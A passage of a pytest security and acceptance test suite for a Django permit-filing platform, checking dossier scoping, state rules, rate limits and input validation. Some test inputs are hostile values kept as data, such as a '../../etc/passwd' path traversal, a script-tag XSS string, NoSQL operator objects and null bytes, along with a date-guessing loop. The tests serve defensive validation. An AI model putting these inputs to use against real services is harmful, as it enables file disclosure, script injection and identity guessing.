# ruff: noqa: F811 (the procedures' fixtures are imported here, then named as the probes' arguments)
"""Acceptance probes of the online procedures (raqmana/procedures), as a ministry's testers would run them: scoping
and break-ins through the pages and the API, bad input on every way in, the rules of Law 55-19 through the catalogue,
the legal clocks (pauses, working days, silence), races on PostgreSQL, and what the public figures and the exports
let out.

A test marked xfail(strict=True) names a defect found: it fails today and passes once the defect is fixed. The others
prove what holds (keep them: they guard scoping and races against regressions). The race probes need PostgreSQL's
row locks: run them with DATABASE_URL=postgres://... --create-db; SQLite skips them."""

import contextlib
import csv
import io
import json
import threading
import zlib
from datetime import UTC, date, datetime, time, timedelta
from unittest import mock

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, connections
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from django_otp import DEVICE_ID_SESSION_KEY
from django_otp.plugins.otp_totp.models import TOTPDevice
from openpyxl import load_workbook

from raqmana.access.roles import Role
from raqmana.access.services import grant_role
from raqmana.accounts.services.enterprises import register_enterprise
from raqmana.accounts.tests.factories import UserFactory
from raqmana.calendars.models import Holiday
from raqmana.documents.models import IssuedDocument
from raqmana.documents.selectors import documents_visible_to
from raqmana.kernel.reference_data import forget_versions
from raqmana.kernel.tests import samples
from raqmana.kernel.tests.scanner import scanner_away  # noqa: F401 (a fixture)
from raqmana.kernel.text import TextKind, check_text
from raqmana.procedures import admin as procedures_admin
from raqmana.procedures import catalogue, figures, loading, selectors
from raqmana.procedures.constants import CommissionMember, DossierState, OpinionState
from raqmana.procedures.models import (
    Attachment,
    Dossier,
    DossierMessage,
    Opinion,
    Procedure,
    ProcedureVersion,
)
from raqmana.procedures.services import attachments, commission, exports, filing, review
from raqmana.procedures.tests.conftest import (  # noqa: F401 (fixtures)
    SMALL_BUILDING,
    applicant,
    applicant_act,
    complete,
    draft,
    filed,
    files_found_clean,
    labels,
    pdf_upload,
    permits_agent,
    president,
    procedure,
    temara_window,
)
from raqmana.territories.constants import Level, UnitKind
from raqmana.territories.models import AdministrativeUnit, Territory
from raqmana.workflows.models import Clock, ClockState
from raqmana.workflows.services import run_due_clocks

pytestmark = pytest.mark.django_db

API = "/api/procedures"
POSTGRESQL_ONLY = pytest.mark.skipif(connection.vendor != "postgresql", reason="row locks: PostgreSQL only")
HX = {"HTTP_HX_REQUEST": "true"}


# Helpers


def signed_in(user, language="en"):
    """A client of its own signed in as `user`, its second factor checked (agents need it), reading `language`."""
    client = Client()
    device = TOTPDevice.objects.filter(user=user, confirmed=True).first() or TOTPDevice.objects.create(
        user=user, name="test", confirmed=True
    )
    client.force_login(user, backend="raqmana.accounts.backends.EmailOrPhoneBackend")
    session = client.session
    session[DEVICE_ID_SESSION_KEY] = device.persistent_id
    session.save()
    client.cookies["django_language"] = language
    return client


def at(moment):
    """timezone.now() at `moment`, given in UTC as the real one is."""
    return mock.patch("django.utils.timezone.now", return_value=moment.astimezone(UTC))


def local(day, hour=10):
    return timezone.make_aware(datetime.combine(day, time(hour)))


def clock_of(dossier, name="decision"):
    return Clock.objects.get(subject_id=str(dossier.pk), workflow="procedures.dossier", name=name)


def no_500(response, what=""):
    assert response.status_code < 500, f"{what} -> {response.status_code}: {response.content[:300]!r}"


def refused_in_json(response, *statuses):
    """A 4xx the API explains: {"detail": "..."} with a sentence in it."""
    assert response.status_code in statuses, (response.status_code, response.content[:300])
    detail = response.json().get("detail")
    assert isinstance(detail, str) and detail.strip(), response.content[:300]
    return detail


def put_answers(client, dossier, answers):
    return client.put(
        f"{API}/dossiers/{dossier.pk}/answers", json.dumps({"answers": answers}), content_type="application/json"
    )


def upload(client, dossier, path, data, name="plans.pdf", content_type="application/pdf"):
    return client.post(
        f"{API}/dossiers/{dossier.pk}/attachments",
        {"path": path, "file": SimpleUploadedFile(name, data, content_type=content_type)},
    )


def a_large_commune_elsewhere():
    """A commune of more than 50,000 inhabitants outside Témara's prefecture, with its own single window."""
    temara_prefecture = Territory.objects.get(code="04.501.01.07").parent
    commune = (
        Territory.objects.filter(level=Level.COMMUNE, population_2024__gt=50_000)
        .exclude(parent=temara_prefecture)
        .order_by("code")
        .first()
    )
    AdministrativeUnit.objects.get_or_create(
        kind=UnitKind.URBANISM_SERVICE,
        code=f"URB-{commune.code}",
        defaults={"territory": commune, "name_ar": "شباك", "name_fr": "Guichet"},
    )
    return commune


def filed_dossier_of(applicant_user, procedure_obj, commune, act, birth_data, **more):
    draft_ = filing.start_draft(applicant_user, procedure_obj, commune=commune)
    complete(draft_, applicant_user, act, birth_data)
    if more:
        answers = {"use": "individual_housing", "area": "120", "site": {"commune": commune.code, "street": "12 Atlas"}}
        filing.save_answers(draft_, {**answers, **more}, by=applicant_user)
    return filing.file_dossier(draft_, by=applicant_user)


@pytest.fixture
def stranger(db):
    """Another citizen, signed in with a proved contact."""
    return UserFactory(full_name="Karim Stranger")


@pytest.fixture
def prefecture(temara):
    return temara.parent


@pytest.fixture
def agent_elsewhere(db):
    """A permits agent of a large commune in another province, whose own window is open."""
    commune = a_large_commune_elsewhere()
    user = UserFactory(full_name="Agent Ailleurs")
    grant_role(user, Role.PERMITS_AGENT, territory=commune, by=None, reason="test")
    return user


# --- Scoping and break-ins: a citizen and another's dossier ---------------------------------------------------------


def test_another_citizen_reaches_no_dossier_through_the_api(filed, procedure, applicant, temara, stranger):
    """Every endpoint on a dossier answers 404 for someone else's, draft or filed: nobody learns it exists."""
    draft = filing.start_draft(applicant, procedure, commune=temara)
    client = signed_in(stranger)
    for dossier in (draft, filed):
        refused_in_json(client.get(f"{API}/dossiers/{dossier.pk}"), 404)
        refused_in_json(put_answers(client, dossier, {"use": "commercial"}), 404)
        refused_in_json(
            client.post(
                f"{API}/dossiers/{dossier.pk}/civil-status-link",
                {"idcs": "123456789012", "birth_date": "1990-01-01", "first_name": "X"},
                content_type="application/json",
            ),
            404,
        )
        refused_in_json(upload(client, dossier, "plans", samples.pdf()), 404)
        refused_in_json(client.post(f"{API}/dossiers/{dossier.pk}/file"), 404)
    assert client.get(f"{API}/dossiers").json() == []
    draft.refresh_from_db()
    assert "use" not in draft.answers and draft.state == DossierState.DRAFT
    assert Attachment.objects.filter(uploaded_by=stranger).count() == 0


PAGES_ON_A_DOSSIER = [
    ("get", "dossier"),
    ("get", "form"),
    ("post", "save"),
    ("post", "file"),
    ("post", "link"),
    ("post", "attach"),
    ("get", "receipt"),
    ("get", "decision"),
    ("post", "write"),
    ("post", "answer"),
    ("post", "withdraw"),
    ("post", "pay"),
]


def test_another_citizen_gets_404_on_every_page_of_a_dossier(filed, stranger):
    client = signed_in(stranger)
    for method, name in PAGES_ON_A_DOSSIER:
        url = reverse(f"procedures:{name}", args=[filed.pk])
        answer = getattr(client, method)(url, {"_form": "1", "body": "hi", "reason": "x", "message": "x"})
        assert answer.status_code == 404, (name, answer.status_code)
    filed.refresh_from_db()
    assert filed.state == DossierState.FILED and not DossierMessage.objects.filter(dossier=filed).exists()


def test_another_citizen_neither_opens_nor_removes_a_file_nor_a_receipt(draft, applicant, stranger):
    attachment = attachments.attach(draft, "plans", pdf_upload(), by=applicant)
    client = signed_in(stranger)
    assert client.get(reverse("procedures:attachment", args=[attachment.pk])).status_code == 404
    assert client.post(reverse("procedures:remove_attachment", args=[attachment.pk])).status_code == 404
    attachment.refresh_from_db()
    assert attachment.removed_at is None
    with pytest.raises(PermissionDenied):
        attachments.remove_attachment(attachment, by=stranger)
    with pytest.raises(PermissionDenied):
        attachments.attach(draft, "plans", pdf_upload(), by=stranger)


def test_the_receipt_and_decision_are_opened_by_no_other_citizen_through_the_documents_api(filed, stranger):
    client = signed_in(stranger)
    assert client.get(f"/api/documents/{filed.receipt_id}/pdf").status_code == 404


def test_an_office_s_private_note_never_reaches_the_applicant(filed, permits_agent, applicant):
    review.write(filed, by=permits_agent, body="Note interne: voisin plaignant.", private=True)
    page = signed_in(applicant).get(reverse("procedures:dossier", args=[filed.pk]))
    assert page.status_code == 200 and "voisin plaignant" not in page.text
    api = signed_in(applicant).get(f"{API}/dossiers/{filed.pk}")
    assert "voisin plaignant" not in api.text
    with pytest.raises(PermissionDenied):
        review.write(filed, by=applicant, body="Moi aussi une note privée", private=True)


# --- Scoping: the offices ---------------------------------------------------------------------------------------------


def test_an_agent_of_another_commune_reads_nothing_of_temara(filed, agent_elsewhere, applicant):
    attachment = Attachment.objects.get(dossier=filed)
    client = signed_in(agent_elsewhere)
    queue = client.get(reverse("procedures:queue"))
    assert queue.status_code == 200 and filed.reference not in queue.text
    assert client.get(f"{API}/office/dossiers").json() == []
    assert client.get(reverse("procedures:review", args=[filed.pk])).status_code == 404
    assert client.get(reverse("procedures:attachment", args=[attachment.pk])).status_code == 404
    for step in ("take_up", "approve", "refuse", "request_information", "write_office", "assign", "reexamine"):
        answer = client.post(reverse(f"procedures:{step}", args=[filed.pk]), {"reasons": "x", "body": "x"})
        assert answer.status_code == 404, step
    filed.refresh_from_db()
    assert filed.state == DossierState.FILED and filed.assigned_to is None
    assert not selectors.dossiers_visible_to(agent_elsewhere).exists()


def test_an_agent_of_the_office_reads_the_queue_review_and_files(filed, permits_agent):
    client = signed_in(permits_agent)
    assert filed.reference in client.get(reverse("procedures:queue")).text
    rows = client.get(f"{API}/office/dossiers").json()
    assert [row["reference"] for row in rows] == [filed.reference]
    assert client.get(reverse("procedures:review", args=[filed.pk])).status_code == 200
    attachment = Attachment.objects.get(dossier=filed)
    assert client.get(reverse("procedures:attachment", args=[attachment.pk])).status_code == 200


def test_an_export_holds_only_what_its_requester_reads(filed, permits_agent, agent_elsewhere, committed, birth_data):
    own = exports.request_export(permits_agent, format="csv")
    other = exports.request_export(agent_elsewhere, format="csv")
    committed()
    own.refresh_from_db()
    other.refresh_from_db()
    own_rows = list(csv.reader(io.StringIO(own.file.read().decode("utf-8-sig"))))
    other_rows = list(csv.reader(io.StringIO(other.file.read().decode("utf-8-sig"))))
    assert [row[0] for row in own_rows[1:]] == [filed.reference]
    assert other_rows[1:] == [] and other.total == 0


def test_a_draft_is_read_by_no_office(draft, permits_agent, applicant):
    attachment = attachments.attach(draft, "plans", pdf_upload(), by=applicant)
    client = signed_in(permits_agent)
    assert client.get(reverse("procedures:review", args=[draft.pk])).status_code == 404
    assert client.get(reverse("procedures:attachment", args=[attachment.pk])).status_code == 404


def test_a_permits_agent_does_not_decide_through_the_pages(filed, permits_agent):
    client = signed_in(permits_agent)
    client.post(reverse("procedures:take_up", args=[filed.pk]))
    for step, data in (("approve", {"conditions": ""}), ("refuse", {"reasons": "Hauteur."})):
        answer = client.post(reverse(f"procedures:{step}", args=[filed.pk]), data)
        no_500(answer, step)
    filed.refresh_from_db()
    assert filed.state == DossierState.UNDER_REVIEW and filed.decision_id is None
    with pytest.raises(PermissionDenied):
        review.approve(filed, by=permits_agent)


def test_the_president_decides_through_the_pages(filed, permits_agent, president):
    review.take_up(filed, by=permits_agent)
    answer = signed_in(president).post(reverse("procedures:approve", args=[filed.pk]), {"conditions": ""})
    assert answer.status_code == 302
    filed.refresh_from_db()
    assert filed.state == DossierState.APPROVED and filed.decision.kind == "dossier_decision"


def test_the_governor_s_services_decide_only_for_the_provincial_window(filed, permits_agent, prefecture):
    governor = UserFactory(full_name="Services du gouverneur")
    grant_role(governor, Role.GOVERNOR_SERVICES, territory=prefecture, by=None, reason="test")
    review.take_up(filed, by=permits_agent)
    with pytest.raises(PermissionDenied):
        review.approve(filed, by=governor)


def test_a_civil_status_inspector_opens_no_permit_receipt(filed, prefecture):
    inspector = UserFactory(full_name="Inspecteur état civil")
    grant_role(inspector, Role.PROVINCIAL_INSPECTOR, territory=prefecture, by=None, reason="test")
    assert not selectors.dossiers_visible_to(inspector).exists()  # he reads no dossier
    assert not documents_visible_to(inspector).filter(pk=filed.receipt_id).exists()
    assert signed_in(inspector).get(f"/api/documents/{filed.receipt_id}/pdf").status_code == 404


def test_a_file_removed_from_the_draft_is_not_opened_by_the_office(
    draft, applicant, applicant_act, birth_data, permits_agent
):
    wrong = attachments.attach(draft, "plans", pdf_upload("someone-elses-id.pdf"), by=applicant)
    attachments.remove_attachment(wrong, by=applicant)
    complete(draft, applicant, applicant_act, birth_data)
    filing.file_dossier(draft, by=applicant)
    assert signed_in(permits_agent).get(reverse("procedures:attachment", args=[wrong.pk])).status_code == 404


# --- Scoping: the commission ------------------------------------------------------------------------------------------

LARGE = {
    **SMALL_BUILDING,
    "fields": [*SMALL_BUILDING["fields"], {"key": "parcelling", "type": "yes_no", "label": labels("Parcelling")}],
    "commission": {"members": [{"member": "civil_protection"}]},
}


@pytest.fixture
def large(procedure):
    version = ProcedureVersion.objects.create(procedure=procedure, number=2, definition=LARGE, source="test")
    procedure.current_version, procedure.through_commission, procedure.delay_days = version, True, 25
    procedure.save()
    return procedure


@pytest.fixture
def members(prefecture, temara_window, permits_agent):
    people = {CommissionMember.COMMUNE: permits_agent}
    for member, role in (
        (CommissionMember.PROVINCE, Role.GOVERNOR_SERVICES),
        (CommissionMember.URBAN_AGENCY, Role.URBAN_AGENCY_AGENT),
        (CommissionMember.CIVIL_PROTECTION, Role.CIVIL_PROTECTION_AGENT),
    ):
        people[member] = UserFactory()
        grant_role(people[member], role, territory=prefecture, by=None, reason="test")
    return people


@pytest.fixture
def taken_up_large(large, applicant, applicant_act, birth_data, temara, temara_window, members, permits_agent):
    draft_ = filing.start_draft(applicant, large, commune=temara)
    complete(draft_, applicant, applicant_act, birth_data)
    filing.save_answers(
        draft_,
        {"use": "individual_housing", "area": "900", "parcelling": "no",
         "site": {"commune": "04.501.01.07", "street": "Zone industrielle"}},
        by=applicant,
    )  # fmt: skip
    dossier = filing.file_dossier(draft_, by=applicant)
    review.take_up(dossier, by=permits_agent)
    return dossier


@pytest.fixture
def member_elsewhere(db):
    """An urban agency agent of Al Hoceïma's province."""
    user = UserFactory(full_name="Agence Al Hoceima")
    province = Territory.objects.get(code="01.051.01.07").parent
    grant_role(user, Role.URBAN_AGENCY_AGENT, territory=province, by=None, reason="test")
    return user


def test_a_member_of_another_province_reads_and_gives_nothing(taken_up_large, member_elsewhere):
    assert not selectors.opinions_for_member(member_elsewhere).exists()
    with pytest.raises(Exception) as refused:
        selectors.member_dossier(member_elsewhere, taken_up_large.pk)
    assert refused.type.__name__ == "Http404"
    attachment = Attachment.objects.get(dossier=taken_up_large)
    assert signed_in(member_elsewhere).get(reverse("procedures:attachment", args=[attachment.pk])).status_code == 404
    agency = Opinion.objects.get(dossier=taken_up_large, member=CommissionMember.URBAN_AGENCY)
    with pytest.raises(PermissionDenied):
        commission.give_opinion(agency, by=member_elsewhere, verdict="favourable", text="")
    agency.refresh_from_db()
    assert agency.state == OpinionState.REQUESTED


def test_a_member_reads_its_dossier_s_files_and_gives_only_its_own_opinion(taken_up_large, members):
    agency_agent = members[CommissionMember.URBAN_AGENCY]
    attachment = Attachment.objects.get(dossier=taken_up_large)
    assert signed_in(agency_agent).get(reverse("procedures:attachment", args=[attachment.pk])).status_code == 200
    protection = Opinion.objects.get(dossier=taken_up_large, member=CommissionMember.CIVIL_PROTECTION)
    with pytest.raises(PermissionDenied):
        commission.give_opinion(protection, by=agency_agent, verdict="favourable", text="")
    agency = Opinion.objects.get(dossier=taken_up_large, member=CommissionMember.URBAN_AGENCY)
    commission.give_opinion(agency, by=agency_agent, verdict="favourable", text="")
    with pytest.raises(ValidationError):  # given once: not changed afterwards
        commission.give_opinion(agency, by=agency_agent, verdict="unfavourable", text="Changé d'avis")
    agency.refresh_from_db()
    assert agency.verdict == "favourable"


def test_a_large_project_is_not_decided_before_the_commission_s_opinions(taken_up_large, president):
    assert set(Opinion.objects.filter(dossier=taken_up_large).values_list("state", flat=True)) == {"requested"}
    with pytest.raises(ValidationError):
        review.approve(taken_up_large, by=president)


def test_the_opinions_of_a_decided_dossier_do_not_lapse_against_the_members(taken_up_large, president):
    # A large project is decided only once its opinions are in: what ends it earlier is a withdrawal (or silence).
    with pytest.raises(ValidationError):
        review.refuse(taken_up_large, by=president, reasons="Retrait insuffisant.")
    review.withdraw(taken_up_large, by=taken_up_large.applicant)
    run_due_clocks(now=timezone.now() + timedelta(days=40))
    assert not Opinion.objects.filter(dossier=taken_up_large, state=OpinionState.LAPSED).exists()


# --- Acting on a dossier in a state that forbids it -------------------------------------------------------------------


def test_filing_twice_gives_one_number_and_one_receipt(filed, applicant):
    client = signed_in(applicant)
    refused_in_json(client.post(f"{API}/dossiers/{filed.pk}/file"), 422)
    page = client.post(reverse("procedures:file", args=[filed.pk]))
    assert page.status_code == 302 and page["Location"] == reverse("procedures:dossier", args=[filed.pk])
    with pytest.raises(ValidationError):
        filing.file_dossier(filed, by=applicant)
    filed.refresh_from_db()
    assert filed.number == 1 and IssuedDocument.objects.filter(kind="dossier_receipt").count() == 1


def test_a_draft_is_neither_approved_nor_refused(draft, president, temara_window):
    with pytest.raises(ValidationError):
        review.approve(draft, by=president)
    with pytest.raises(ValidationError):
        review.refuse(draft, by=president, reasons="Non.")
    assert signed_in(president).post(reverse("procedures:approve", args=[draft.pk])).status_code == 404
    draft.refresh_from_db()
    assert draft.state == DossierState.DRAFT and draft.decision_id is None


def test_a_decided_dossier_is_not_withdrawn_nor_changed(filed, permits_agent, president, applicant):
    review.take_up(filed, by=permits_agent)
    review.refuse(filed, by=president, reasons="Hauteur supérieure au plan.")
    client = signed_in(applicant)
    withdrawn = client.post(reverse("procedures:withdraw", args=[filed.pk]), {"reason": "Je retire"})
    assert withdrawn.status_code == 302
    with pytest.raises(ValidationError):
        review.withdraw(filed, by=applicant)
    refused_in_json(put_answers(client, filed, {"use": "commercial"}), 422)
    refused_in_json(upload(client, filed, "plans", samples.pdf()), 422)
    filed.refresh_from_db()
    assert filed.state == DossierState.REFUSED and filed.answers["use"] == "individual_housing"


def test_answering_a_request_never_asked(filed, applicant):
    page = signed_in(applicant).post(reverse("procedures:answer", args=[filed.pk]), {"message": "Voici"})
    assert page.status_code == 302
    with pytest.raises(PermissionDenied):
        review.answer_request(filed, by=applicant, message="Voici")
    filed.refresh_from_db()
    assert filed.state == DossierState.FILED


def test_no_upload_nor_change_reaches_a_filed_dossier(filed, applicant):
    client = signed_in(applicant)
    refused_in_json(upload(client, filed, "plans", samples.pdf()), 422)
    page = client.post(reverse("procedures:attach", args=[filed.pk]), {"upload.plans": pdf_upload()})
    assert page.status_code == 302
    attachment = Attachment.objects.get(dossier=filed)
    assert client.post(reverse("procedures:remove_attachment", args=[attachment.pk])).status_code == 302
    attachment.refresh_from_db()
    assert attachment.removed_at is None and Attachment.objects.filter(dossier=filed).count() == 1


def test_the_office_asks_corrections_and_the_applicant_then_uploads(filed, permits_agent, applicant):
    review.take_up(filed, by=permits_agent)
    review.request_information(filed, by=permits_agent, reason="incomplete", message="Ajoutez la façade.")
    with pytest.raises(PermissionDenied):  # the office does not answer in the applicant's name
        review.answer_request(filed, by=permits_agent, message="fait")
    answer = upload(signed_in(applicant), filed, "plans", samples.pdf(b"BT (facade) Tj ET"))
    assert answer.status_code == 201
    review.answer_request(filed, by=applicant, message="Voici la façade.")
    filed.refresh_from_db()
    assert filed.state == DossierState.UNDER_REVIEW and len(filed.answers["plans"]) == 2


# --- The civil status link: never typed, never forced --------------------------------------------------------------


def test_a_forged_civil_status_link_through_the_api_is_never_kept(draft, applicant, applicant_act, birth_data):
    client = signed_in(applicant)
    forged = {"idcs": applicant_act.idcs, "names": {"first_name_ar": "مزور", "family_name_ar": "مزور"},
              "birth_date": "1900-01-01", "sex": "F", "act": "X"}  # fmt: skip
    put_answers(client, draft, {"applicant": forged, "use": "individual_housing"})
    draft.refresh_from_db()
    assert "applicant" not in draft.answers and draft.answers["use"] == "individual_housing"
    filing.link_civil_status(
        draft, by=applicant, idcs=applicant_act.idcs, birth_date=birth_data["birth_date"], first_name="Youssef"
    )
    registered = Dossier.objects.get(pk=draft.pk).answers["applicant"]
    put_answers(client, draft, {"applicant": forged, "use": "individual_housing"})
    put_answers(client, draft, {"applicant": None, "use": "individual_housing"})
    draft.refresh_from_db()
    assert draft.answers["applicant"] == registered and registered["names"]["first_name_ar"] != "مزور"


def test_a_civil_status_link_needs_the_act_s_own_facts(draft, applicant, applicant_act, birth_data):
    client = signed_in(applicant)
    for facts in (
        {"idcs": applicant_act.idcs, "birth_date": "1990-01-02", "first_name": "Youssef"},
        {"idcs": applicant_act.idcs, "birth_date": birth_data["birth_date"].isoformat(), "first_name": "Y"},
        {"idcs": "000000000000", "birth_date": birth_data["birth_date"].isoformat(), "first_name": "Youssef"},
        {"idcs": applicant_act.idcs + "0" * 30, "birth_date": "1990-01-01", "first_name": "Youssef"},
        {"idcs": applicant_act.idcs, "birth_date": "1990-02-30", "first_name": "Youssef"},
        {"idcs": applicant_act.idcs, "birth_date": "1990-01-01", "first_name": "\u202eYoussef"},
    ):
        answer = client.post(
            f"{API}/dossiers/{draft.pk}/civil-status-link", json.dumps(facts), content_type="application/json"
        )
        refused_in_json(answer, 422)
    draft.refresh_from_db()
    assert "applicant" not in draft.answers


def test_the_api_s_civil_status_link_is_rate_limited_like_the_page(draft, applicant, applicant_act):
    client = signed_in(applicant)
    url = f"{API}/dossiers/{draft.pk}/civil-status-link"
    statuses = []
    for day in range(25):
        guess = {"idcs": applicant_act.idcs, "birth_date": f"1980-01-{day + 1:02d}", "first_name": "Youssef"}
        statuses.append(client.post(url, json.dumps(guess), content_type="application/json").status_code)
    assert 429 in statuses, statuses


# --- File paths -------------------------------------------------------------------------------------------------------

BLOCKS = {
    **SMALL_BUILDING,
    "requirements": [*SMALL_BUILDING["requirements"], {"kind": "lot_plan", "label": labels("Plan of the lot")}],
    "fields": [
        *SMALL_BUILDING["fields"],
        {
            "key": "lots",
            "type": "repeat",
            "label": labels("Lots"),
            "required": False,
            "max": 3,
            "fields": [
                {"key": "area", "type": "number", "label": labels("Lot area")},
                {"key": "plan", "type": "file", "document": "lot_plan", "label": labels("Lot plan"),
                 "required": False},
            ],
        },
    ],
}  # fmt: skip


@pytest.fixture
def with_blocks(procedure):
    version = ProcedureVersion.objects.create(procedure=procedure, number=2, definition=BLOCKS, source="test")
    procedure.current_version = version
    procedure.save(update_fields=["current_version"])
    return procedure


def test_a_file_for_no_field_or_beyond_a_block_is_refused(with_blocks, applicant, temara):
    dossier = filing.start_draft(applicant, with_blocks, commune=temara)
    client = signed_in(applicant)
    for path in (
        "passport",
        "lots.3.plan",
        "lots.99999999999999999999.plan",
        "lots.-1.plan",
        "lots.x.plan",
        "lots.٠.plan",
        "lots.0.area",
        "lots.0",
        "lots",
        "plans.0.plans",
        "area",
        "applicant",
        "",
        "lots.0.plan.x",
        "../plans",
        "plans ",
        "PLANS",
        "lots..plan",
        "lots.0.plan\n",
    ):
        answer = upload(client, dossier, path, samples.pdf())
        assert answer.status_code in (404, 422), (path, answer.status_code)
        no_500(answer, path)
    assert not Attachment.objects.filter(dossier=dossier).exists()
    assert upload(client, dossier, "lots.2.plan", samples.pdf()).status_code == 201
    checked = filing.checked_answers(dossier, {}, complete=False)
    assert checked.answers["lots"][2]["plan"] == [Attachment.objects.get(dossier=dossier).pk]


def test_a_field_takes_no_more_files_than_its_maximum(draft, applicant):
    client = signed_in(applicant)
    statuses = [upload(client, draft, "plans", samples.pdf(f"BT ({n}) Tj ET".encode())).status_code for n in range(6)]
    assert statuses[:3] == [201, 201, 201]
    assert statuses[3:] == [422, 422, 422], statuses
    assert Attachment.objects.filter(dossier=draft, removed_at__isnull=True).count() == 3


# --- Enterprises ------------------------------------------------------------------------------------------------------


def test_nobody_files_in_the_name_of_an_enterprise_they_do_not_represent(procedure, applicant, stranger, temara):
    register_enterprise(ice="002345678000031", legal_name="Autre SARL", commune=temara, representative=stranger)
    client = signed_in(applicant)
    answer = client.post(
        f"{API}/catalogue/{procedure.code}/dossiers",
        json.dumps({"commune_code": "04.501.01.07", "enterprise_ice": "002345678000031"}),
        content_type="application/json",
    )
    refused_in_json(answer, 403)
    unknown = client.post(
        f"{API}/catalogue/{procedure.code}/dossiers",
        json.dumps({"commune_code": "04.501.01.07", "enterprise_ice": "999999999999999"}),
        content_type="application/json",
    )
    refused_in_json(unknown, 404)
    assert not Dossier.objects.exists()


def test_a_representation_ended_before_the_filing_stops_it(
    procedure, applicant, applicant_act, birth_data, temara, temara_window
):
    enterprise = register_enterprise(
        ice="001537619000093", legal_name="Atlas Bâtiment", commune=temara, representative=applicant
    )
    draft_ = filing.start_draft(applicant, procedure, commune=temara, enterprise=enterprise)
    complete(draft_, applicant, applicant_act, birth_data)
    enterprise.representatives.filter(user=applicant).update(revoked_at=timezone.now())
    with pytest.raises(PermissionDenied):
        filing.file_dossier(draft_, by=applicant)
    draft_.refresh_from_db()
    assert draft_.state == DossierState.DRAFT and draft_.number is None


# --- Bad input on the API ---------------------------------------------------------------------------------------------

NASTY_BODIES = [
    "",
    "not json",
    "[]",
    "null",
    "5",
    '"x"',
    "{",
    '{"a":' * 5000 + "1" + "}" * 5000,
    "\xff\xfe",
    json.dumps([{"commune_code": "04.501.01.07"}]),
]


def test_starting_a_draft_with_bad_input_is_a_translated_4xx(procedure, applicant):
    client = signed_in(applicant, "fr")
    url = f"{API}/catalogue/{procedure.code}/dossiers"
    for body in NASTY_BODIES:
        refused_in_json(client.post(url, body, content_type="application/json"), 400, 415, 422)
    for code in ("99.999.99.99", "04.501", "04", "", " ", "x" * 17, "\u202e04.501.01.07", "04.501.01.07\n", 5, None,
                 ["04.501.01.07"], {"$gt": ""}):  # fmt: skip
        answer = client.post(url, json.dumps({"commune_code": code}), content_type="application/json")
        refused_in_json(answer, 404, 422)
    refused_in_json(client.post(url, '{"commune_code": "04.501\\u0000.01.07"}', content_type="application/json"), 400)
    for unknown in ("no-such-procedure", "x" * 300, "%00", "..", "small-building%0a"):
        answer = client.post(
            f"{API}/catalogue/{unknown}/dossiers", json.dumps({"commune_code": "04.501.01.07"}),
            content_type="application/json",
        )  # fmt: skip
        assert answer.status_code in (400, 404), (unknown, answer.status_code)
    assert not Dossier.objects.exists()
    # Said in the person's language.
    answer = client.post(url, "not json", content_type="application/json")
    with translation.override("fr"):
        assert answer.json()["detail"] == translation.gettext("The request is not valid JSON.")


def test_saving_answers_with_bad_input_never_loses_the_draft(draft, applicant):
    client = signed_in(applicant)
    put_answers(client, draft, {"use": "individual_housing", "area": "120"})
    before = Dossier.objects.get(pk=draft.pk).answers
    url = f"{API}/dossiers/{draft.pk}/answers"
    for body in [*NASTY_BODIES, json.dumps({"answers": []}), json.dumps({"answers": "x"}),
                 json.dumps({"answers": None}), json.dumps({"answers": {"use": "x"}, "extra": 1}) + "x",
                 '{"answers": {"use": "\\u0000"}}', '{"answers": {"\\ud800": 1}}']:  # fmt: skip
        answer = client.put(url, body, content_type="application/json")
        refused_in_json(answer, 400, 415, 422)
        assert Dossier.objects.get(pk=draft.pk).answers == before, body[:60]
    form_body = client.put(url, "answers=1", content_type="application/x-www-form-urlencoded")
    assert 400 <= form_body.status_code < 500


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("use", ["individual_housing"]),
        ("use", {"value": "individual_housing"}),
        ("use", "INDIVIDUAL_HOUSING"),
        ("use", 7),
        ("area", "NaN"),
        ("area", "Infinity"),
        ("area", 1e308),
        ("area", "9" * 5000),
        ("area", "1e999999"),
        ("area", True),
        ("area", "-0"),
        ("area", "12,345"),
        ("site", "04.501.01.07"),
        ("site", {"commune": "99.999.99.99", "street": "x"}),
        ("site", {"commune": {"$ne": 1}, "street": ["x"]}),
        ("site", {"commune": "04.501.01.07", "street": "\u202eevil"}),
        ("site", {"commune": "04.501.01.07", "street": "<script>alert(1)</script>"}),
        ("site", {"commune": "04.501.01.07", "street": "x" * 100_000}),
        ("point", {"lat": 48.85, "lon": 2.35}),
        ("point", {"lat": "NaN", "lon": "NaN"}),
        ("point", [34, -6]),
        ("plans", [1, 2, 3]),
        ("plans", "../../etc/passwd"),
        ("shop_sign", "Atlas"),
    ],
)
def test_a_wrong_answer_is_named_and_the_rest_kept(draft, applicant, field, value):
    client = signed_in(applicant)
    given = {"use": "individual_housing", "area": "75", field: value}
    answer = put_answers(client, draft, given)
    no_500(answer, field)
    assert answer.status_code == 200, answer.content[:300]
    errors = answer.json()["errors"]
    draft.refresh_from_db()
    if field == "site":  # an address keeps its well-formed part in a draft: never the wrong one
        kept = draft.answers.get("site") or {"commune": "", "street": ""}
        assert kept["commune"] in ("", "04.501.01.07") and len(kept["street"]) <= 300
        assert not {"\u202e", "<"} & set(kept["street"]) and kept["street"] in ("", "x")
    else:
        assert field not in draft.answers, draft.answers  # the wrong answer is not kept...
    assert field in errors or field in ("shop_sign", "plans"), errors  # ...and named (a hidden field is dropped)
    for other, kept in (("use", "individual_housing"), ("area", "75.00")):
        if other != field:
            assert draft.answers[other] == kept  # the rest is kept


def test_a_deeply_nested_answer_is_refused_or_ignored_not_a_500(draft, applicant):
    client = signed_in(applicant)
    for depth in (50, 500, 900, 3000):
        nested = "[" * depth + "]" * depth
        body = '{"answers": {"use": ' + nested + ', "site": {"street": ' + nested + "}}}"
        answer = client.put(f"{API}/dossiers/{draft.pk}/answers", body, content_type="application/json")
        no_500(answer, depth)
    draft.refresh_from_db()
    assert "use" not in draft.answers


def test_the_office_api_and_the_figures_refuse_bad_parameters(permits_agent, filed):
    client = signed_in(permits_agent)
    for query in ("page=0", "page=-1", "page=abc", "page=10001", "page=1e3", "mine=perhaps", "page=%00"):
        answer = client.get(f"{API}/office/dossiers?{query}")
        assert 400 <= answer.status_code < 500, (query, answer.status_code)
    anonymous = Client()
    for url in (
        "/figures/nation",
        "/figures/commune?year=1999",
        "/figures/commune?quarter=5",
        "/figures/commune?within=99.999",
